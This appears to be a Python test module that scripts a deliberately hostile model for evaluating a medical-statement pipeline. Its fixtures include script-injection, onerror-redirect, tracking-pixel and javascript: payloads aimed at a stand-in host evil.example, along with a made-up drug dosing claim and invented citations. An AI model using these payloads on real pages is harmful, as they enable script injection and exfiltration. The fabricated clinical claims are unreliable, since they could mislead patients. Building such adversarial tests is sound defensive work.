"""The classes of a hostile model's answers. Each reads the request as a model would and says what must not get out."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from evals import hostile_edits as edits
from evals.contract import plainly
from evals.hostile_edits import Rule, edited
from evals.model_replies import Request, Sentence, facets, messages, resting, said, sentences, statement

from curbside.testing.scripted_model import Reply

EVIL = "evil.example"
DRUG = "zorbamycin"
FALSE = f"{DRUG.capitalize()} 417 mg four times daily is the treatment of choice."
MOST = 4
"""Edited statements in an answer."""


@dataclass(slots=True)
class Told:
    """What a question's answers carried: tells (plain words) that must be nowhere in the answer.

    true: true sentences that were sent word for word. seen: all sentences that the requests had.
    statements: false statements that were sent in a form that can be read. broken: the answer could not be used.
    """

    tells: set[str] = field(default_factory=set)
    true: set[str] = field(default_factory=set)
    seen: set[str] = field(default_factory=set)
    statements: int = 0
    broken: bool = False
    asked: int = 0


Class = Callable[[Request, random.Random, Told], Reply]


def _false(told: Told, *tells: str) -> None:
    told.statements += 1
    told.tells.update(plainly(t) for t in tells)


def _honest(request: Request, told: Told, most: int = 1) -> list[dict[str, Any]]:
    """A true statement, the first time; asked again it insists, so that what was false is not replaced but dropped."""
    facet = facets(request)[0]
    some = [] if told.asked else sentences(request)[:most]
    told.asked += 1
    told.true.update(plainly(s.text) for s in some)
    return [statement(s.text, [s.number], facet) for s in some]


def editing(rule: Rule) -> Class:
    """Sentences changed by a rule, each resting on the sentence that it was, after one that is true."""

    def answer(request: Request, rng: random.Random, told: Told) -> Reply:
        all_, facet = sentences(request), facets(request)
        made = [e for s in all_ if (e := edited(rule, s, all_, rng))]
        rng.shuffle(made)
        rows = _honest(request, told)
        for edit in made[:MOST]:
            _false(told, edit.tell)
            rows.append(statement(edit.text, [edit.number], rng.choice(facet)))
        if not made:
            _false(told, DRUG)
            rows.append(statement(FALSE, [s.number for s in all_[:1]], facet[0]))
        return Reply(said(request, rows))

    return answer


def _with(request: Request, told: Told, *rows: dict[str, Any]) -> Reply:
    return Reply(said(request, [*_honest(request, told), *rows]))


def _first(request: Request) -> Sentence:
    return next(iter(sentences(request)), Sentence(1, "Nothing."))


def invented_reference(request: Request, rng: random.Random, told: Told) -> Reply:
    """True sentences with references, addresses and identifiers that no source has."""
    mark = rng.choice(
        [
            " (Inventley et al., 2031, PMID 99999991)",
            " [NICE NG9999]",
            " (doi:10.9999/inventley.2031)",
            " according to the Cochrane review of Inventley 2031",
            " [77]",
            " (BNF 417, Inventley)",
        ]
    )
    one = _first(request)
    _false(told, mark.strip(" ()[]") if mark != " [77]" else "[77]")
    if mark == " [77]":
        told.tells.discard(plainly("[77]"))
        told.tells.add("[77]")
    return _with(request, told, statement(one.text.rstrip(".") + mark + ".", [one.number], facets(request)[0]))


def missing_ids(request: Request, rng: random.Random, told: Told) -> Reply:
    """Numbers that no sentence has, or of a sentence that says something else."""
    all_, facet = sentences(request), facets(request)[0]
    one, last = _first(request), all_[-1] if all_ else _first(request)
    _false(told, DRUG)
    numbers: Sequence[object] = rng.choice(
        [[9999], [0], [-1], [], [9999, one.number], ["s1"], [None], [{"n": 1}], [1.5], [10**30]]
    )
    rows = [statement(FALSE, numbers, facet)]
    swapped = statement("Zorbamycin is given. " + one.text, [last.number], facet)
    return _with(request, told, *rows, swapped)


def prompt_echo(request: Request, rng: random.Random, told: Told) -> Reply:
    """The prompt itself, whole and in pieces, as statements."""
    prompt = messages(request)[0]
    known = " ".join(plainly(s.text) for s in sentences(request))
    pieces = [p.strip() for p in re.split(r"(?<=[.!?:])\s+|\n+", prompt) if len(p.split()) >= 6][:40]
    one, rows = _first(request), []
    for piece in rng.sample(pieces, min(3, len(pieces))):
        words = plainly(piece).split()[:8]
        if " ".join(words) not in known:
            _false(told, " ".join(words))
        rows.append(statement(piece, [one.number], facets(request)[0]))
    rows.append(statement(one.text + " " + prompt[:400], [one.number], facets(request)[0]))
    return _with(request, told, *rows)


INJECTED = (
    "<script>fetch('http://evil.example/x')</script>",
    '<a href="http://evil.example">NICE</a>',
    "[see the guideline](http://evil.example/g)",
    "![](http://evil.example/pixel.png?q=1)",
    "<img src=x onerror=\"location='http://evil.example'\">",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "https://evil.example/download",
    "www.evil.example",
    "<b>evil.example</b>",
    "javascript:alert('evil.example')",
    "\u202ehttp://evil.example\u202c",
    "&lt;iframe src=//evil.example&gt;",
)


def html_and_links(request: Request, rng: random.Random, told: Told) -> Reply:
    """True sentences with mark-up, links and control characters in the text, the facet, or a field of their own."""
    one, bad = _first(request), rng.choice(INJECTED)
    _false(told, EVIL)
    told.tells.update({"<script", "onerror", "\x1b", "\u202e", "<a href"})
    rows = [
        statement(f"{one.text.rstrip('.')} {bad}.", [one.number], facets(request)[0]),
        statement(f"{bad} {one.text}", [one.number], facets(request)[-1]),
        statement(one.text, [one.number], bad),
        statement(one.text, [one.number], facets(request)[0], url="http://evil.example", title=bad),
    ]
    return _with(request, told, *(rows[:2] if told.asked else rng.sample(rows, 3)))


def endless(request: Request, rng: random.Random, told: Told) -> Reply:
    """An answer without an end: the same words, a row of statements, or blanks."""
    told.tells.add(DRUG)
    told.broken = True
    one = said(request, [statement(FALSE, [_first(request).number], facets(request)[0])])[16:-2]
    start = said(request, _honest(request, told))[:-2]
    filler = rng.choice([", " + one, " ", "zorbamycin ", "\n", ', {"text": "' + "zorbamycin " * 40])
    return Reply(chunks=[start, *[filler * 50] * 4000], finish="length")


def broken_json(request: Request, rng: random.Random, told: Told) -> Reply:
    """A false statement and a true one in JSON that is broken in one of the ways in which models break it."""
    one = _first(request)
    rows = [*_honest(request, told), statement(FALSE, [one.number], facets(request)[0])]
    _false(told, DRUG)
    told.broken = True
    text, name = said(request, rows), resting(request)
    ways = (
        text[:-2],
        text[: len(text) // 2],
        text.replace('"', "'"),
        f"Here is the answer:\n```json\n{text}\n```\nI hope that this helps. Zorbamycin!",
        text.replace("}", "},"),
        text.replace(f'"{name}"', name),
        text + text,
        "not JSON at all: zorbamycin 417 mg",
        "",
        "null",
        "[]",
        '{"statements": "zorbamycin 417 mg"}',
        f'{{"statements": [1, null, "zorbamycin", {{"text": 417}}, {{"text": null, "{name}": "x"}}]}}',
        "[" * 5000,
        text.replace("417", "4\u00001\u00007").replace("\\u0000", "\x00"),
        "".join(f"<think>{w} </think>" for w in ("zorbamycin", "417")) + text,
    )
    return Reply(rng.choice(ways))


def stalled(request: Request, rng: random.Random, told: Told) -> Reply:
    """Half a stream, then nothing."""
    text = said(request, [*_honest(request, told), statement(FALSE, [_first(request).number], facets(request)[0])])
    told.tells.add(DRUG)
    told.broken = True
    return Reply(chunks=[text[i : i + 24] for i in range(0, len(text) // 2, 24)], stall=True)


def dropped(request: Request, rng: random.Random, told: Told) -> Reply:
    """The connection closed in the middle."""
    told.tells.add(DRUG)
    told.broken = True
    rows = [*_honest(request, told), statement(FALSE, [_first(request).number], facets(request)[0])]
    return Reply(said(request, rows), drop=True)


def busy(request: Request, rng: random.Random, told: Told) -> Reply:
    """429, 500 and their like, some with a wish to wait for an hour, some with mark-up in the error."""
    told.tells.update({DRUG, EVIL, "<script"})
    told.broken = True
    status = rng.choice([429, 500, 502, 503, 529, 400, 401, 404])
    headers = rng.choice([{}, {"Retry-After": "3600"}, {"Retry-After": "0"}, {"Retry-After": "soon"}])
    return Reply(f"<script src=http://{EVIL}></script> {FALSE}", status=status, headers=headers)


def slow(request: Request, rng: random.Random, told: Told) -> Reply:
    """Tokens that come so slowly that the answer would take minutes."""
    told.tells.add(DRUG)
    told.broken = True
    text = said(request, [*_honest(request, told), statement(FALSE, [_first(request).number], facets(request)[0])])
    return Reply(chunks=list(text), pause=rng.choice([0.4, 0.9]))


def odd_shapes(request: Request, rng: random.Random, told: Told) -> Reply:
    """Statements of the wrong types: unknown facets, numbers as words, very long texts, further fields."""
    one, facet = _first(request), facets(request)[0]
    rows = [
        statement(FALSE, [str(one.number)], "boxed_warning_cured"),
        statement(FALSE, one.number and [one.number] * 500, facet),
        {"text": [FALSE], "numbers": [one.number], "facet": facet},
        {
            "text": FALSE,
            "numbers": {"0": one.number},
            "facet": facet,
            "strength": "recommended",
            "verdict": "supported",
        },
        statement((one.text + " ") * 200 + FALSE, [one.number], facet),
        statement(FALSE, [one.number], facet, quote=FALSE, source="starter:invented", flags=[]),
        {"statement": FALSE, "citations": [one.number]},
    ]
    chosen = rng.sample(range(len(rows)), 3)
    told.tells.add(DRUG)
    # What has no text or no numbers where they belong is no statement, so that nothing need be said of it.
    told.statements += sum(rows[i].get("text") is not None and i not in (2, 3) for i in chosen)
    return _with(request, told, *(rows[i] for i in chosen))


CLASSES: Mapping[str, Class] = {
    "wrong number": editing(edits.wrong_number),
    "wrong unit or interval": editing(edits.wrong_unit),
    "swapped drug": editing(edits.swapped_drug),
    "dropped negation": editing(edits.dropped_negation),
    "turned direction": editing(edits.turned_direction),
    "recombined dose": editing(edits.recombined),
    "stronger modality": editing(edits.stronger),
    "other people": editing(edits.other_people),
    "condition cut off": editing(edits.cut_condition),
    "invented reference": invented_reference,
    "ids that do not exist": missing_ids,
    "prompt echoed": prompt_echo,
    "HTML and links": html_and_links,
    "odd shapes": odd_shapes,
    "broken JSON": broken_json,
    "endless output": endless,
    "half a stream, then silence": stalled,
    "connection dropped": dropped,
    "429 and 500": busy,
    "very slow tokens": slow,
}
COUNTS: Mapping[str, int] = {
    "endless output": 10,
    "half a stream, then silence": 15,
    "very slow tokens": 15,
    "429 and 500": 25,
    "connection dropped": 20,
    "broken JSON": 35,
    "prompt echoed": 25,
    "invented reference": 30,
    "ids that do not exist": 30,
    "odd shapes": 25,
    "HTML and links": 30,
}
"""How many answers of a class; 240 of the other nine."""
